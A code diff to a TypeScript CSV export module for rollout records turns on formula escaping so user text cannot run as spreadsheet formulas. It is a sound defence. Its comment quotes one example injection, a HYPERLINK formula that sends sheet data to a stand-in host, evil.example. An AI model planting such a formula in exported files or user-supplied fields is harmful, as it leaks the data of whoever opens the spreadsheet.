@@ -4,6 +4,14 @@ import { evaluateQuorum } from "../domain/sign-off";
 
 // CSV for spreadsheets: a header row, one row per record, ISO dates in UTC. A byte-order
 // mark first, so spreadsheet programs read the plan's accents as UTF-8.
+//
+// Cells carry people's own text (evidence, comments, names, the plan's wording), and a
+// spreadsheet runs a cell that starts with =, +, -, @, TAB or CR as a formula
+// (`=HYPERLINK("http://evil.example/?x="&A1,"x")` sends the sheet's data away). Every
+// such cell is prefixed with a single quote, as OWASP advises (csv-stringify's
+// `escape_formulas`, which also covers the full-width variants some programs normalize).
+
+const OPTIONS = { header: true, escape_formulas: true } as const;
 
 const BOM = "\uFEFF";
 const iso = (d: Date | null) => (d ? d.toISOString() : "");
@@ -29,7 +37,7 @@ export function itemsCsv(items: RolloutSnapshot["items"]): string {
         evidence: i.evidence ?? "",
         not_applicable_reason: i.notApplicableReason ?? "",
       })),
-      { header: true, columns: ITEM_COLUMNS },
+      { ...OPTIONS, columns: ITEM_COLUMNS },
     )
   );
 }
@@ -55,7 +63,7 @@ export function signOffsCsv(signOffs: RolloutSnapshot["signOffs"]): string {
           decisions: standing.map((d) => `${d.value} by ${d.user.name} (${d.role}) at ${d.decidedAt.toISOString()}${d.comment ? `: ${d.comment}` : ""}`).join(" | "),
         };
       }),
-      { header: true, columns: SIGN_OFF_COLUMNS },
+      { ...OPTIONS, columns: SIGN_OFF_COLUMNS },
     )
   );
 }
